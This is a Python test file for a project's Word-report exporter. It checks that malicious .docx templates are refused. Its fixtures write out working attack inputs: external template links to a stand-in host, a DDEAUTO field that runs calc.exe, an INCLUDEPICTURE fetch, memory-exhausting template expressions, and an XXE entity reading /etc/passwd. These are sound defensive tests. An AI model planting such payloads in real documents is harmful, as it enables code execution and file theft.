"""Word templates that somebody made to do more than look nice."""

import io
import zipfile
from datetime import date

import docx
import pytest

from frankpledge.reports.documents import Document, Paragraph
from frankpledge.reports.word import to_word
from frankpledge.vocabulary.errors import DataProblem

DOCUMENT = Document("Title", "", "Partnership", "en-GB", date(2026, 11, 21), (Paragraph("Words."),), ())
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def template(**properties: str) -> bytes:
    made = docx.Document()
    made.add_paragraph("{{ body }}")
    for name, value in properties.items():
        setattr(made.core_properties, name, value)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def changed(part: str, before: bytes, after: bytes) -> bytes:
    """The template with ``before`` replaced in one of its parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template())) as old, zipfile.ZipFile(out, "w") as new:
        for one in old.infolist():
            content = old.read(one)
            if one.filename == part:
                assert before in content
                content = content.replace(before, after, 1)
            new.writestr(one.filename, content)
    return out.getvalue()


def link(kind: str, mode: str) -> bytes:
    return f"<Relationship Id='r9{kind}' Type='{RELATIONSHIP}/{kind}' Target='https://evil.example/x' {mode}/>".encode()


def test_a_plain_template_with_a_link_to_click_is_taken() -> None:
    rels = "word/_rels/document.xml.rels"
    made = to_word(
        DOCUMENT, changed(rels, b"</Relationships>", link("hyperlink", 'TargetMode="External"') + b"</Relationships>")
    )
    assert "Words." in [paragraph.text for paragraph in docx.Document(io.BytesIO(made)).paragraphs]


@pytest.mark.parametrize("mode", ['TargetMode="External"', "TargetMode='External'", "TargetMode = 'external'"])
def test_what_would_be_fetched_is_refused_wherever_it_stands(mode: str) -> None:
    """Behind a harmless link, in single quotes, with spaces: Word fetches it all the same."""
    both = link("hyperlink", 'TargetMode="External"') + link("attachedTemplate", mode) + b"</Relationships>"
    with pytest.raises(DataProblem, match="links to a part elsewhere"):
        to_word(DOCUMENT, changed("word/_rels/document.xml.rels", b"</Relationships>", both))


@pytest.mark.parametrize("field", ["DDEAUTO c:\\\\windows\\\\calc.exe", ' INCLUDEPICTURE "https://evil.example/x"'])
def test_fields_that_fetch_or_run_are_refused(field: str) -> None:
    run = f"<w:p><w:r><w:instrText xml:space='preserve'>{field}</w:instrText></w:r></w:p><w:sectPr".encode()
    with pytest.raises(DataProblem, match="field that fetches"):
        to_word(DOCUMENT, changed("word/document.xml", b"<w:sectPr", run))


def test_words_in_the_properties_are_not_run() -> None:
    """The filling looks into author and title too: a formula there took all the memory."""
    for words in (
        "{{ 'a' * 10 ** 9 }}",
        "{% for i in range(99999) %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    ):
        with pytest.raises(DataProblem, match="not one of its placeholders"):
            to_word(DOCUMENT, template(comments=words))


def test_a_document_type_in_other_letters_is_refused() -> None:
    plain = zipfile.ZipFile(io.BytesIO(template())).read("docProps/app.xml")
    hidden = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    with pytest.raises(DataProblem):
        to_word(DOCUMENT, changed("docProps/app.xml", plain, hidden.encode("utf-16")))
